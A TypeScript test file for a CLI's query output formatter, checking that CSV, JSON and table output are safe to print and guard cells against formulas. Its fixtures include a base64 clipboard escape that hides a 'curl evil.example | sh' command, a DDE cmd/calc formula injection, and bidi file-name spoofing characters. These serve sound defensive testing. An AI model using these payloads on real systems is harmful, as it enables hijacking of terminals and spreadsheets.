// What `query` prints when --output is not given.
import { formatQuery, parseOutput } from '../../../../cli/commands/query/format';
import type { QueryResult } from '../../../../cli/commands/query/read';

describe('output', () => {
  it('defaults to a table on a terminal and JSON in a pipe', () => {
    expect(parseOutput(undefined, true)).toBe('table');
    expect(parseOutput(undefined, false)).toBe('json');
  });
});

describe('every output format is safe to print on a terminal', () => {
  const osc52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
  const hostile = `\u009b2J\u202egpj.exe\u2066${osc52}`;
  const quarantined: QueryResult = {
    truncated: false,
    items: [
      {
        pk: 'QUARANTINE#2025-03',
        sk: '2025-03-14T08:00:00.000000000Z#m-1',
        kind: 'quarantine',
        body: `=cmd|' /C calc'!A0 ${hostile}`,
        reason: 'message: not valid JSON',
        messageId: 'm-1',
        senderId: 'AIDAVOISO',
        receivedAt: '2025-03-14T08:00:01.000Z',
      },
    ],
  };
  const events: QueryResult = {
    truncated: false,
    items: [
      {
        pk: 'CC#acme',
        sk: '2025-03-14T08:00:00.000000000Z#id',
        kind: 'event',
        timestamp: '2025-03-14T08:00:00Z',
        time: '2025-03-14T08:00:00.000000000Z',
        recognised: true,
        callcenter: 'acme',
        severity: 'high',
        type: 'app_login',
        event: 'deleted_user',
        params: { user: `@SUM(1)${hostile}`, access_group: 'agent', note: hostile },
        rules: ['deleted-user-login'],
        senderId: 'AIDAVOISO',
      },
    ],
  };
  const CONTROLS = /[\p{Cc}\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;
  /** Line breaks and CSV record ends are the only controls an output may keep. */
  const withoutLineEnds = (text: string) => text.replaceAll('\r\n', '').replaceAll('\n', '');

  it.each([
    ['csv', quarantined, true],
    ['csv', events, false],
    ['json', quarantined, true],
    ['json', events, false],
    ['table', quarantined, true],
    ['table', events, false],
  ] as const)('--output %s', (output, result, isQuarantine) => {
    const text = formatQuery(result, { output, quarantined: isQuarantine });

    expect(withoutLineEnds(text)).not.toMatch(CONTROLS);
    expect(text).toContain('AIDAVOISO');
  });

  it('keeps JSON exact: the escaped controls parse back to what was stored', () => {
    const text = formatQuery(quarantined, { output: 'json', quarantined: true });

    expect(text).toContain('\\u001b]52;c;');
    expect(JSON.parse(text)[0]).toMatchObject({
      body: quarantined.items[0]?.body,
      senderId: 'AIDAVOISO',
    });
  });

  it('guards CSV cells against formulas and shows who sent each message', () => {
    const csv = formatQuery(quarantined, { output: 'csv', quarantined: true }).split('\r\n');
    const eventCsv = formatQuery(events, { output: 'csv' }).split('\r\n');

    expect(csv[0]).toBe('time,messageId,reason,body,sender');
    expect(csv[1]).toMatch(/,'=cmd\|/);
    expect(csv[1]).toMatch(/,AIDAVOISO$/);
    expect(eventCsv[1]).toContain(",'@SUM(1)");
  });
});
